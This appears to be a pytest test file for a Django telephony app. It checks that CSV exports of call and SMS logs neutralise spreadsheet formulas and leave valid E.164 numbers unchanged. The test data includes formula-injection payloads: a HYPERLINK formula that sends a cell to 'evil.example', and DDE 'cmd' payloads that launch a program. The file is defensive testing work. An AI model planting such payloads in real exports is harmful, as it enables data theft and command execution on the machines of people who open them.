"""CSV exports of the logs: a cell a spreadsheet would run as a formula is shown as text; E.164 numbers stay as they are."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from telephony.logs import csv_cell
from telephony.models import CallLog, SmsLog
from tests.conftest import make_user

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(client, url: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(client.get(url).streaming_content).decode())))


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_text_from_a_sender_id_that_is_a_formula_is_exported_as_text(alice_client, alice, payload):
    SmsLog.objects.create(
        user=alice, direction="in", message_sid="SM" + "1" * 32, peer_number=payload[:32], our_number="+14155550000"
    )
    rows = _csv(alice_client, "/dashboard/messages/?export=csv")
    peer = rows[1][rows[0].index("peer_number")]
    assert peer == "'" + payload[:32]


def test_an_app_call_peer_whose_email_looks_like_a_formula_is_exported_as_text(alice_client, alice):
    mallory = make_user("-2+3+cmd@example.com")
    CallLog.objects.create(user=alice, kind="app", direction="in", external_id="call-1", peer_user=mallory)
    rows = _csv(alice_client, "/dashboard/calls/?export=csv")
    assert rows[1][rows[0].index("peer")] == "'-2+3+cmd@example.com"


def test_e164_numbers_are_exported_exactly_as_they_are(alice_client, alice):
    now = timezone.now()
    for index, number in enumerate(["+15551234567", "+442071838750", "+861012345678901"]):
        CallLog.objects.create(
            user=alice,
            kind="phone",
            direction="in",
            external_id=f"CA{index:032d}",
            peer_number=number,
            started_at=now - timedelta(minutes=index),
        )
    rows = _csv(alice_client, "/dashboard/calls/?export=csv")
    assert [row[rows[0].index("peer")] for row in rows[1:]] == ["+15551234567", "+442071838750", "+861012345678901"]


@pytest.mark.parametrize(
    "value",
    [
        "+1555123456789012",  # 16 digits: longer than E.164 allows
        "+0123456",  # no country code starts with 0
        "+1555 123 4567",
        "+15551234567\n",
        "+1555\u0661\u0662\u0663\u0664\u0665\u0666\u0667",  # Arabic-Indic digits are not ASCII digits
        "+1+1",
    ],
)
def test_anything_that_only_resembles_an_e164_number_is_neutralised(value):
    assert csv_cell(value) == "'" + value


def test_ordinary_values_are_untouched():
    assert [csv_cell(value) for value in ["deleted user", "alice@example.com", 12, None, True, "2025-01-01"]] == [
        "deleted user",
        "alice@example.com",
        12,
        None,
        True,
        "2025-01-01",
    ]
